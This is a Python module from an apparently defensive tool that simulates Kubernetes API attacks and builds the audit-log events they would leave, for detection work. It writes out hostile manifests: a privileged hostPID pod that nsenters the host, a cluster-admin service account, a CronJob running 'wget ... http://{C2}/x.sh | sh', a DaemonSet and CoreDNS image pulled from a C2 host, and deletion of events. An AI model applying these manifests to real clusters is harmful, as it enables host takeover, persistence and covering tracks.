"""API-level attack scenarios: what they leave in the audit log (see ``attacks`` for the model)."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from kubetrail.simulate.attacks import BOB, BOB_IP, C2, Planner
from kubetrail.simulate.audit import allow, make_event, sa_user
from kubetrail.simulate.cluster import Container, new_uid, pod_suffix
from kubetrail.simulate.timefmt import NS

__all__ = ["SCENARIOS"]

_KUBECTL_OLD = "kubectl/v1.29.4 (linux/amd64) kubernetes/55019c8"
_KUBECTL_NEW = "kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46"
_EDIT = allow("RoleBinding", "dev-team-edit", "edit", 'Group "dev-team"')
_ADMIN = allow("ClusterRoleBinding", "dev-team-admin", "admin", 'Group "dev-team"')


def _pod_body(
    name: str, ns: str, uid: str, node: str, spec: dict[str, Any]
) -> tuple[dict[str, Any], dict[str, Any]]:
    req = {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": name, "namespace": ns}, "spec": spec}
    resp = {
        "kind": "Pod",
        "apiVersion": "v1",
        "metadata": {
            "name": name,
            "namespace": ns,
            "uid": uid,
            "resourceVersion": "184467",
            "creationTimestamp": "2026-01-01T12:00:00Z",
        },
        "spec": spec | {"nodeName": node, "serviceAccountName": "default"},
        "status": {"phase": "Pending", "qosClass": "BestEffort"},
    }
    return req, resp


def _stream_into_pod(
    p: Planner, attack: str, t: int, workload: Container, subresource: str, query: str, gap_s: int, dur_s: int
) -> None:
    """One kubectl exec/attach session audited twice: as POST (verb create, kubectl < 1.30) and over
    WebSocket (verb get, kubectl >= 1.30), each with its ResponseStarted and ResponseComplete stages."""
    for k, (verb, ua) in enumerate((("create", _KUBECTL_OLD), ("get", _KUBECTL_NEW))):
        aid = new_uid(p.rng)
        for stage, dt in (("ResponseStarted", 0), ("ResponseComplete", dur_s * NS)):
            rec = make_event(
                ts_ns=t + k * gap_s * NS + dt,
                audit_id=aid,
                verb=verb,
                resource="pods",
                namespace=workload.namespace,
                name=workload.pod,
                subresource=subresource,
                user=BOB,
                source_ips=[BOB_IP],
                user_agent=ua,
                uri=f"/api/v1/namespaces/{workload.namespace}/pods/{workload.pod}/{subresource}{query}",
                code=101,
                stage=stage,
                annotations=_EDIT,
            )
            p.add(rec, attack)


def scenario_a01(p: Planner) -> None:
    """A01: Exec into a pod, once as POST (verb create, kubectl < 1.30) and once over WebSocket (verb get)."""
    orders = p.cluster.find("shop", "orders")
    t = p.at[0]
    p.attack("A01", t, node=orders.node.name, ns="shop", pod=orders.pod)
    q = f"?command=sh&container={orders.name}&stdin=true&stdout=true&tty=true"
    _stream_into_pod(p, "A01", t, orders, "exec", q, gap_s=40, dur_s=95)


def scenario_a02(p: Planner) -> None:
    """A02: Attach, same two verbs."""
    cart = p.cluster.find("shop", "cart")
    t = p.at[1]
    p.attack("A02", t, node=cart.node.name, ns="shop", pod=cart.pod)
    q = "?container=cart&stdin=true&stdout=true"
    _stream_into_pod(p, "A02", t, cart, "attach", q, gap_s=20, dur_s=30)


def scenario_a03(p: Planner) -> None:
    """A03: Secret enumeration: list at cluster scope, then get in many namespaces."""
    at = p.at
    ev = p.ev
    t = at[2]
    p.attack("A03", t)
    ev(
        "A03",
        ts_ns=t,
        verb="list",
        resource="secrets",
        user=BOB,
        source_ips=[BOB_IP],
        user_agent=_KUBECTL_NEW,
        uri="/api/v1/secrets?limit=500",
        annotations=_ADMIN,
    )
    for k, ns in enumerate(
        ("shop", "payments", "monitoring", "kube-system", "default", "ingress-nginx", "argocd", "logging")
    ):
        code = 403 if ns in ("kube-system", "argocd") else 200
        ev(
            "A03",
            ts_ns=t + (k + 1) * 2 * NS,
            verb="get",
            resource="secrets",
            namespace=ns,
            name=f"{ns}-credentials",
            user=BOB,
            source_ips=[BOB_IP],
            user_agent=_KUBECTL_NEW,
            code=code,
            annotations=_ADMIN
            if code == 200
            else {"authorization.k8s.io/decision": "forbid", "authorization.k8s.io/reason": ""},
            fail_message=(
                f'secrets "{ns}-credentials" is forbidden: User "bob@example.com" '
                f'cannot get resource "secrets" in API group "" in the namespace "{ns}"'
            ),
        )


def scenario_a04(p: Planner) -> None:
    """A04: Privileged pod with hostPID and the host's / mounted."""
    rng = p.rng
    at = p.at
    workers = p.workers
    ev = p.ev
    t = at[3]
    node = workers[-1]
    pod = p.shared["privileged_pod"] = f"debug-tools-{pod_suffix(rng, 5)}"
    p.attack("A04", t, node=node.name, ns="default", pod=pod)
    spec = {
        "hostPID": True,
        "hostNetwork": True,
        "containers": [
            {
                "name": "shell",
                "image": "alpine:3.20",
                "command": ["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh"],
                "securityContext": {"privileged": True},
                "volumeMounts": [{"name": "host", "mountPath": "/host"}],
            }
        ],
        "volumes": [{"name": "host", "hostPath": {"path": "/", "type": ""}}],
    }
    req, resp = _pod_body(pod, "default", new_uid(rng), node.name, spec)
    ev(
        "A04",
        ts_ns=t,
        verb="create",
        resource="pods",
        namespace="default",
        user=BOB,
        source_ips=[BOB_IP],
        user_agent=_KUBECTL_NEW,
        code=201,
        request_object=req,
        response_object=resp,
        annotations=_EDIT | {"pod-security.kubernetes.io/enforce-policy": "privileged:latest"},
    )


def scenario_a05(p: Planner) -> None:
    """A05: New service account bound to cluster-admin."""
    rng = p.rng
    at = p.at
    ev = p.ev
    t = at[4]
    p.attack("A05", t, ns="kube-system")
    sa = {
        "kind": "ServiceAccount",
        "apiVersion": "v1",
        "metadata": {"name": "backup-operator", "namespace": "kube-system"},
    }
    ev(
        "A05",
        ts_ns=t,
        verb="create",
        resource="serviceaccounts",
        namespace="kube-system",
        user=BOB,
        source_ips=[BOB_IP],
        user_agent=_KUBECTL_NEW,
        code=201,
        request_object=sa,
        annotations=_ADMIN,
    )
    crb = {
        "kind": "ClusterRoleBinding",
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "metadata": {"name": "backup-operator-admin"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
        "subjects": [{"kind": "ServiceAccount", "name": "backup-operator", "namespace": "kube-system"}],
    }
    ev(
        "A05",
        ts_ns=t + 3 * NS,
        verb="create",
        resource="clusterrolebindings",
        group="rbac.authorization.k8s.io",
        user=BOB,
        source_ips=[BOB_IP],
        user_agent=_KUBECTL_NEW,
        code=201,
        request_object=crb,
        response_object=crb | {"metadata": {"name": "backup-operator-admin", "uid": new_uid(rng)}},
        annotations=_ADMIN,
    )


def scenario_a06(p: Planner) -> None:
    """A06: Anonymous requests allowed beyond the health endpoints."""
    at = p.at
    ev = p.ev
    t = at[5]
    anon_ip = "198.51.100.23"
    p.attack("A06", t, user="system:anonymous", ip=anon_ip, ns="kube-system")
    anon = {"username": "system:anonymous", "groups": ["system:unauthenticated"]}
    anon_allow = allow("ClusterRoleBinding", "anonymous-view", "view", 'User "system:anonymous"')
    for k, (verb, res, ns) in enumerate(
        (("list", "pods", ""), ("get", "configmaps", "kube-system"), ("list", "namespaces", ""))
    ):
        ev(
            "A06",
            ts_ns=t + k * NS,
            verb=verb,
            resource=res,
            namespace=ns,
            name="kubeadm-config" if res == "configmaps" else "",
            user=anon,
            source_ips=[anon_ip],
            user_agent="python-requests/2.32.3",
            annotations=anon_allow,
        )


def scenario_a07(p: Planner) -> None:
    """A07: A service-account token used from a public IP."""
    cart = p.cluster.find("shop", "cart")
    at = p.at
    ev = p.ev
    t = at[6]
    thief_ip = "185.220.101.47"
    cart_sa = sa_user(
        "shop", "cart", "0b9e6a4c-7d21-4f5e-8a3b-2c1d0e9f8a7b", cart.node.name, cart.pod, cart.pod_uid
    )
    p.attack("A07", t, user=cart_sa["username"], ip=thief_ip, ns="shop", pod=cart.pod, node=cart.node.name)
    sa_allow = allow("RoleBinding", "cart", "cart-config-reader", 'ServiceAccount "cart/shop"')
    for k, (verb, res, ns, code) in enumerate(
        (
            ("get", "configmaps", "shop", 200),
            ("list", "pods", "shop", 403),
            ("list", "secrets", "shop", 403),
            ("list", "namespaces", "", 403),
        )
    ):
        ev(
            "A07",
            ts_ns=t + k * 3 * NS,
            verb=verb,
            resource=res,
            namespace=ns,
            name="cart-config" if verb == "get" else "",
            user=cart_sa,
            source_ips=[thief_ip],
            user_agent="curl/8.5.0",
            code=code,
            annotations=sa_allow
            if code == 200
            else {"authorization.k8s.io/decision": "forbid", "authorization.k8s.io/reason": ""},
        )


def scenario_a09(p: Planner) -> None:
    """A09: Malicious CronJob in kube-system."""
    at = p.at
    ev = p.ev
    t = at[8]
    p.attack("A09", t, ns="kube-system")
    cj = {
        "kind": "CronJob",
        "apiVersion": "batch/v1",
        "metadata": {"name": "kube-cleanup", "namespace": "kube-system"},
        "spec": {
            "schedule": "*/5 * * * *",
            "jobTemplate": {
                "spec": {
                    "template": {
                        "spec": {
                            "containers": [
                                {
                                    "name": "cleanup",
                                    "image": "alpine:3.20",
                                    "command": ["sh", "-c", f"wget -qO- http://{C2}/x.sh | sh"],
                                }
                            ],
                            "restartPolicy": "OnFailure",
                        }
                    }
                }
            },
        },
    }
    ev(
        "A09",
        ts_ns=t,
        verb="create",
        resource="cronjobs",
        group="batch",
        namespace="kube-system",
        user=BOB,
        source_ips=[BOB_IP],
        user_agent=_KUBECTL_NEW,
        code=201,
        request_object=cj,
        annotations=_ADMIN,
    )


def scenario_a10(p: Planner) -> None:
    """A10: Malicious privileged DaemonSet."""
    at = p.at
    ev = p.ev
    t = at[9]
    p.attack("A10", t, ns="kube-system")
    ds = {
        "kind": "DaemonSet",
        "apiVersion": "apps/v1",
        "metadata": {"name": "node-cache", "namespace": "kube-system"},
        "spec": {
            "template": {
                "spec": {
                    "hostNetwork": True,
                    "hostPID": True,
                    "containers": [
                        {
                            "name": "cache",
                            "image": f"{C2}:5000/node-cache:1",
                            "securityContext": {"privileged": True},
                        }
                    ],
                }
            }
        },
    }
    ev(
        "A10",
        ts_ns=t,
        verb="create",
        resource="daemonsets",
        group="apps",
        namespace="kube-system",
        user=BOB,
        source_ips=[BOB_IP],
        user_agent=_KUBECTL_NEW,
        code=201,
        request_object=ds,
        annotations=_ADMIN,
    )


def scenario_a12(p: Planner) -> None:
    """A12: Kube-system tampering by a non-system user."""
    at = p.at
    ev = p.ev
    t = at[11]
    p.attack("A12", t, ns="kube-system")
    ev(
        "A12",
        ts_ns=t,
        verb="patch",
        resource="deployments",
        group="apps",
        namespace="kube-system",
        name="coredns",
        user=BOB,
        source_ips=[BOB_IP],
        user_agent=_KUBECTL_NEW,
        request_object={
            "spec": {
                "template": {
                    "spec": {"containers": [{"name": "coredns", "image": f"{C2}:5000/coredns:1.11.3"}]}
                }
            }
        },
        annotations=_ADMIN,
    )
    ev(
        "A12",
        ts_ns=t + 4 * NS,
        verb="update",
        resource="configmaps",
        namespace="kube-system",
        name="coredns",
        user=BOB,
        source_ips=[BOB_IP],
        user_agent=_KUBECTL_NEW,
        annotations=_ADMIN,
    )


def scenario_a13(p: Planner) -> None:
    """A13: Deletion of events (covering tracks)."""
    pod = p.shared.get("privileged_pod", "debug-tools")
    at = p.at
    ev = p.ev
    t = at[12]
    p.attack("A13", t, ns="shop")
    ev(
        "A13",
        ts_ns=t,
        verb="delete",
        resource="events",
        namespace="default",
        name=f"{pod}.17f3a2b4c5d6e7f8",
        user=BOB,
        source_ips=[BOB_IP],
        user_agent=_KUBECTL_NEW,
        annotations=_EDIT,
    )
    ev(
        "A13",
        ts_ns=t + 2 * NS,
        verb="deletecollection",
        resource="events",
        namespace="shop",
        user=BOB,
        source_ips=[BOB_IP],
        user_agent=_KUBECTL_NEW,
        annotations=_EDIT,
    )


SCENARIOS: list[Callable[[Planner], None]] = [
    scenario_a01,
    scenario_a02,
    scenario_a03,
    scenario_a04,
    scenario_a05,
    scenario_a06,
    scenario_a07,
    scenario_a09,
    scenario_a10,
    scenario_a12,
    scenario_a13,
]
